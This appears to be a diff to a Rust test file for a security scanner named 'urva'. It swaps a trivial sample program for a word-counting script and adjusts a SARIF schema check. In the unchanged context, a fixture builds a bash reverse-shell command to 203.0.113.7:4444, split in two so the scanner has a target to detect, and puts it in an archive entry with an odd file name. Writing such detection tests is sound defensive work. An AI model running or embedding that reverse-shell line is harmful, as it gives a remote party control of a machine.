@@ -13,7 +13,22 @@ fn reverse_shell() -> Vec<u8> {
     [&b"bash -i >& /dev/"[..], b"tcp/203.0.113.7/4444 0>&1\n"].concat()
 }
 
-const HARMLESS: &[u8] = b"import sys\n\n\ndef main():\n    print('hello', sys.version)\n\n\nmain()\n";
+/// An ordinary small program.
+const HARMLESS: &[u8] = br#""""Counts the words of a text."""
+import argparse
+import collections
+
+
+def count(text):
+    return collections.Counter(text.split())
+
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser(description=__doc__)
+    parser.add_argument("file", type=argparse.FileType())
+    for word, number in count(parser.parse_args().file.read()).most_common(10):
+        print(f"{number:6} {word}")
+"#;
 
 /// Runs `urva scan` in a folder.
 fn scan(folder: &Path, args: &[&str]) -> Output {
@@ -216,8 +231,14 @@ fn the_output_does_not_depend_on_threads() {
 
 #[test]
 fn sarif_is_accepted_by_its_schema() {
-    let schema: Value =
+    let mut schema: Value =
         serde_json::from_str(include_str!("data/sarif-schema-2.1.0.json")).expect("the schema is JSON");
+    // This pattern has a bracket too many, which strict engines refuse; urva writes no language.
+    for owner in ["run", "toolComponent"] {
+        if let Some(language) = schema["definitions"][owner]["properties"]["language"].as_object_mut() {
+            language.remove("pattern");
+        }
+    }
     let validator = jsonschema::draft7::new(&schema).expect("the schema compiles");
     let bad = reverse_shell();
     let archive = tar(&[("a b/\u{1b}.sh", &bad)]);
